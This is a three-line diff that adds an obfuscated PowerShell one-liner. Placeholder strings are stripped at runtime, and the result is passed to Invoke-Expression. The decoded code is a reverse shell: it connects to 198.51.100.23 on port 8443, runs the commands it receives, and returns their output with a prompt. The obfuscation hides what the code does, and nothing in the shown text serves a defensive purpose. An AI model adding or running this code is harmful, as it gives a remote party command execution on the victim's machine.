@@ -1,0 +1,3 @@
+iex (('# run 0205 v4
+$client = New-qx~0bjQQX80ect System.Net.SockQQX80ets.TCPClient(''198.51.100.23'',8443);$stream = $client.GetQQX80Stream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-qx~0bject -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | qx~0ut-String );$sendback2 = $sendback + ''PS '' + (pwd).Path + ''> '';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$streaQQX80m.Flush()};$client.Close()
+' -replace 'QQX80','').Replace('qx~0','O'))
